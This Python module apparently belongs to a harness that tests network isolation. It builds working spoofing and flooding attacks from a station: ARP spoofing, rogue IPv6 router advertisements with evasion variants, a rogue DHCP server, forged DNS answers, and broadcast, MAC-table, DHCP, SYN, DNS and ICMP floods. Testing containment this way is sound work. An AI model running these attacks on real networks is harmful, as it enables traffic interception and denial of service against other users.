"""A hostile station of the network, whatever its attachment: spoofing, floods and storms.

Spoofed frames carry the mark by which a neighbour that hears one tells that it got through.
"""

import os
import struct

from ..frames import StreamPeer, mac_bytes
from ..tap import UDP, ethernet, ipv4, ipv6, packed, pseudo, checksum, transport
from . import MARK, attack, repeated

BROADCAST = b"\xff" * 6
ALL_NODES = mac_bytes("33:33:00:00:00:01")
ETH_ARP, ETH_IP4, ETH_IP6, ETH_VLAN = 0x0806, 0x0800, 0x86DD, 0x8100


def station(target):
    return StreamPeer(target.sockets["stream"], target.mac)


def spoof(target, *frames):
    """Sends each frame plain and behind a VLAN tag, as a burst that no storm control would stop."""
    with station(target) as peer:
        for frame in frames:
            for copy in (frame, frame[:12] + struct.pack("!HH", ETH_VLAN, 5) + frame[12:]):
                for _ in range(3):
                    peer.send(copy + MARK)


def arp(operation, sender_mac, sender_ip, target_mac, target_ip):
    return struct.pack("!HHBBH", 1, ETH_IP4, 6, 4, operation) + sender_mac + packed(sender_ip) + target_mac + packed(target_ip)


def icmp6(source, destination, body):
    value = ~checksum(pseudo(source, destination, 58, len(body)) + body) & 0xFFFF
    return body[:2] + struct.pack("!H", value) + body[4:]


def router_advertisement(own):
    """Names the sender as default router for 30 minutes, with a prefix (RFC 4861 §4.2)."""
    prefix = struct.pack("!BBBBIII16s", 3, 4, 64, 0xC0, 86400, 14400, 0, packed("2001:db8:bad::"))
    body = struct.pack("!BBHBBHII", 134, 0, 0, 64, 0, 1800, 0, 0) + bytes([1, 1]) + own + prefix
    return icmp6("fe80::bad", "ff02::1", body)


@attack("segment")
def source_mac_of_a_neighbour(target):
    frame = ethernet(BROADCAST, mac_bytes(target.neighbour_mac), 0x88B5, bytes(50))
    spoof(target, frame)


@attack("segment")
def source_address_of_a_neighbour(target):
    body = transport(UDP, target.neighbour_ip, target.gateway, 1, 53, b"x" * 20)
    spoof(target, ethernet(BROADCAST, mac_bytes(target.mac), ETH_IP4, ipv4(target.neighbour_ip, "255.255.255.255", UDP, body)))


@attack("segment")
def arp_for_the_gateway_and_neighbours(target):
    own = mac_bytes(target.mac)
    claims = [ethernet(BROADCAST, own, ETH_ARP, arp(operation, own, victim, BROADCAST, victim))
              for victim in (target.gateway, target.neighbour_ip) for operation in (1, 2)]
    claims += [ethernet(BROADCAST, own, ETH_ARP, arp(2, mac_bytes(target.neighbour_mac), target.ip, BROADCAST, target.ip))]
    spoof(target, *claims)


@attack("segment")
def router_advertisements(target):
    own = mac_bytes(target.mac)
    plain = router_advertisement(own)
    # Behind a hop-by-hop and a destination header, and as the first fragment (RFC 7113).
    options = bytes([60, 0, 1, 4, 0, 0, 0, 0]) + bytes([58, 0, 1, 4, 0, 0, 0, 0]) + plain
    fragment = struct.pack("!BBHI", 58, 0, 1, 7) + plain
    frames = [ethernet(ALL_NODES, own, ETH_IP6, ipv6("fe80::bad", "ff02::1", 58, plain, hops=255)),
              ethernet(ALL_NODES, own, ETH_IP6, ipv6("fe80::bad", "ff02::1", 0, options, hops=255)),
              ethernet(ALL_NODES, own, ETH_IP6, ipv6("fe80::bad", "ff02::1", 44, fragment, hops=255))]
    spoof(target, *frames)


@attack("segment")
def dhcp_server(target):
    """Offers that answer a neighbour's next request, from the sender's own address (RFC 2131)."""
    reply = struct.pack("!BBBBIHH4s4s4s4s", 2, 1, 6, 0, 7, 0, 0x8000, bytes(4), packed(target.ip), packed(target.ip), bytes(4))
    reply += bytes(16 + 64 + 128) + b"\x63\x82\x53\x63" + bytes([53, 1, 2, 54, 4]) + packed(target.ip) + b"\xff"
    body = transport(UDP, target.ip, "255.255.255.255", 67, 68, reply)
    spoof(target, ethernet(BROADCAST, mac_bytes(target.mac), ETH_IP4, ipv4(target.ip, "255.255.255.255", UDP, body)))


@attack("segment")
def names_from_the_gateways_address(target):
    answer = struct.pack("!6H", 1, 0x8180, 1, 1, 0, 0) + b"\3web\0\0\1\0\1\xc0\x0c\0\1\0\1" + struct.pack("!IH", 60, 4) + packed(target.ip)
    body = transport(UDP, target.gateway, "255.255.255.255", 53, 5353, answer)
    spoof(target, ethernet(BROADCAST, mac_bytes(target.mac), ETH_IP4, ipv4(target.gateway, "255.255.255.255", UDP, body)))


def flood(target, frames):
    """Sends frames as fast as the socket takes them, many to a call."""
    with station(target) as peer:
        peer.socket.settimeout(0.5)
        data = b"".join(struct.pack("!I", len(frame)) + frame for frame in frames)
        peer.socket.setblocking(False)

        def step():
            try:
                sent = peer.socket.send(data)
            except BlockingIOError:
                os.sched_yield()
                return
            if sent < len(data):
                peer.socket.setblocking(True)
                peer.socket.settimeout(1)
                peer.socket.sendall(data[sent:])
                peer.socket.setblocking(False)
            # Answers are thrown away, so that they do not stop the flood.
            try:
                while peer.socket.recv(1 << 16):
                    pass
            except BlockingIOError:
                pass
        repeated(target, step)


@attack("segment")
def broadcast_storm(target):
    flood(target, [ethernet(BROADCAST, mac_bytes(target.mac), 0x88B5, bytes(46))] * 200)


@attack("segment")
def multicast_storm(target):
    flood(target, [ethernet(mac_bytes("01:00:5e:01:02:03"), mac_bytes(target.mac), 0x88B5, bytes(46))] * 200)


@attack("segment")
def unknown_unicast_storm(target):
    flood(target, [ethernet(b"\2" + target.dice.randbytes(5), mac_bytes(target.mac), 0x88B5, bytes(46)) for _ in range(200)])


@attack("segment")
def mac_table_flood(target):
    flood(target, [ethernet(BROADCAST, b"\2" + target.dice.randbytes(5), 0x88B5, bytes(46)) for _ in range(400)])


@attack("segment")
def dhcp_flood(target):
    def discover(chaddr):
        data = struct.pack("!BBBBIHH", 1, 1, 6, 0, target.dice.getrandbits(32), 0, 0x8000) + bytes(16) + chaddr.ljust(16, b"\0") + bytes(192)
        body = transport(UDP, "0.0.0.0", "255.255.255.255", 68, 67, data + b"\x63\x82\x53\x63" + bytes([53, 1, 1, 255]))
        return ethernet(BROADCAST, mac_bytes(target.mac), ETH_IP4, ipv4("0.0.0.0", "255.255.255.255", UDP, body))
    own = mac_bytes(target.mac)
    flood(target, [discover(own) for _ in range(50)] + [discover(b"\2" + target.dice.randbytes(5)) for _ in range(50)])


def to_gateway(target, peer_mac, proto, body):
    return ethernet(peer_mac, mac_bytes(target.mac), ETH_IP4, ipv4(target.ip, target.gateway, proto, body))


def gateway_mac(target):
    with station(target) as peer:
        return mac_bytes(peer.arp(target.gateway, target.ip) or "ff:ff:ff:ff:ff:ff")


@attack("segment")
def dns_flood(target):
    gateway = gateway_mac(target)
    def query(number):
        name = bytes([8]) + f"{number:08d}".encode() + b"\7example\3net\0"
        return transport(UDP, target.ip, target.gateway, 1024 + number % 60000, 53, struct.pack("!6H", number & 0xFFFF, 0x100, 1, 0, 0, 0) + name + b"\0\1\0\1")
    flood(target, [to_gateway(target, gateway, UDP, query(number)) for number in range(200)])


@attack("segment")
def syn_flood(target):
    gateway = gateway_mac(target)
    flood(target, [to_gateway(target, gateway, 6, transport(6, target.ip, target.gateway, 1024 + number, 53, flags=2)) for number in range(200)])


@attack("segment")
def echo_flood(target):
    gateway = gateway_mac(target)
    data = struct.pack("!BBHHH", 8, 0, 0, 1, 1) + bytes(1000)
    data = data[:2] + struct.pack("!H", ~checksum(data) & 0xFFFF) + data[4:]
    flood(target, [to_gateway(target, gateway, 1, data)] * 50)


@attack("segment")
def garbage(target):
    """Headers of every kind cut at every length, and random bytes behind a good Ethernet header."""
    kinds = (ETH_ARP, ETH_IP4, ETH_IP6, ETH_VLAN, 0x88A8, 0x88B5)
    gateway = gateway_mac(target)
    frames = [ethernet(gateway, mac_bytes(target.mac), target.dice.choice(kinds), target.dice.randbytes(target.dice.randrange(200)), pad=False) for _ in range(200)]
    body = transport(UDP, target.ip, target.gateway, 1, 53, bytes(40))
    whole = to_gateway(target, gateway, UDP, body)
    flood(target, frames + [whole[:length] for length in range(14, len(whole))])

